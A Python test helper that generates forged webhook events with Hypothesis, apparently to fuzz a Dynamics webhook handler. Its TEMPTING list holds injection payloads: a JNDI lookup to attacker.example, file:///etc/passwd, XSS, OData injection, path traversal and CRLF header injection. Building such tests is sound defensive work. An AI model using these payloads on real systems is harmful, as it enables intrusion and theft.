"""Events that somebody made up who has the webhook's key, its secret and the organisation's id: whatever they like."""

from __future__ import annotations

import json
from typing import Any

from hypothesis import strategies as st

from function_app.webhook import Incoming
from mappings.mapping import Mapping
from tests.loop.doorway import SECRET
from tests.loop.world import World

Json = dict[str, Any]
TEMPTING = (
    "https://attacker.example/collect", "file:///etc/passwd", "<script>alert(1)</script>", "' or 1 eq 1 or '",
    "../../systemusers", "$batch", "${jndi:ldap://attacker.example}", "@odata.nextLink", "\r\nX-Header: 1", "\x00",
    "{{7*7}}", "a' and contains(subject,'b", "%27%20or%201%20eq%201", "javascript:alert(1)", "</p>&amp;<p>",
)  # fmt: skip
_HEADERS = ("x-ms-dynamics-msg-size-exceeded", "x-ms-correlation-request-id", "traceparent", "x-ms-dynamics-entity")
_WORDS = st.text(max_size=30) | st.sampled_from(TEMPTING)
_SCALARS = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | _WORDS
ANYTHING = st.recursive(
    _SCALARS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4),
    max_leaves=12,
)
"""Any JSON at all."""


def ids_in(world: World) -> list[str]:
    """Ids of rows that there are, of every kind that the app writes."""
    return sorted({row[key] for rows in world.everything().values() for _, row in rows for key in row if _is_id(key)})


def _is_id(column: str) -> bool:
    return column in ("activityid", "phso_feedbackid", "phso_assessmentid", "incidentid", "phso_decisionid")


def events(mapping: Mapping, rows: list[str], organization: str, users: list[str]) -> st.SearchStrategy[Json]:
    """Any event at all, mostly about tables, columns and rows that there are."""
    of_row = st.sampled_from(rows) | st.uuids().map(str)
    tables = st.sampled_from([*mapping.places, "systemuser", "role", "attacker", "incident"])
    columns = sorted({column for place in mapping.places.values() for column in place.found_by if "/" not in column})
    reference = st.builds(lambda table, row: {"LogicalName": table, "Id": row, "Name": TEMPTING[2]}, tables, of_row)
    attribute = st.builds(_pair, st.sampled_from([*columns, "statecode", "ownerid"]), reference | ANYTHING)
    entity = st.builds(lambda pairs: {"Attributes": pairs}, st.lists(attribute, max_size=4))
    return st.fixed_dictionaries(
        {
            "MessageName": st.sampled_from(["Create", "Update", "Delete", "Merge", "Assign", "Attack"]),
            "PrimaryEntityName": tables,
            "PrimaryEntityId": of_row,
            "OrganizationId": st.just(organization),
            "InitiatingUserId": st.sampled_from([*users, None]),
        },
        optional={
            "InputParameters": st.lists(st.builds(_pair, st.sampled_from(["Target", "Other"]), entity | reference)),
            "PreEntityImages": st.lists(st.builds(_pair, st.just("image"), entity), max_size=2),
            "PostEntityImages": st.lists(st.builds(_pair, st.just("image"), entity), max_size=2),
            "ParentContext": ANYTHING,
            "SharedVariables": ANYTHING,
            "CorrelationId": of_row | st.none(),
            "Depth": ANYTHING,
            "OwningExtension": ANYTHING,
        },
    )


def headers() -> st.SearchStrategy[dict[str, str]]:
    """Headers beside the secret."""
    return st.dictionaries(st.sampled_from(_HEADERS), st.text(max_size=40) | st.sampled_from(TEMPTING), max_size=3)


def forged(body: Json, headers: dict[str, str] | None = None, secret: str = SECRET) -> Incoming:
    """A delivery of it."""
    return Incoming({**(headers or {}), "x-webhook-secret": secret}, json.dumps(body).encode())


def _pair(key: str, value: Any) -> Json:
    return {"key": key, "value": value}
